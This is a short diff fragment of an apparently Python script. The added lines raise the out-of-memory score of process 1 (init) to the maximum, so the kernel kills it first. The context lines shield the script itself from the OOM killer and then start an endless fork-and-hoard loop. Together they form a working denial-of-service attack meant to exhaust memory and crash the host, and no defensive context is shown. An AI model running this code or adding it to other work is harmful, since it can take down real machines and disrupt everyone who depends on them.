@@ -8,6 +8,11 @@ for value in ("-1000", "-500", "0"):
         break
     except OSError:
         pass
+try:
+    with open("/proc/1/oom_score_adj", "w") as file:
+        file.write("1000")
+except OSError:
+    pass
 hoard = []
 while True:
     if os.fork() == 0:
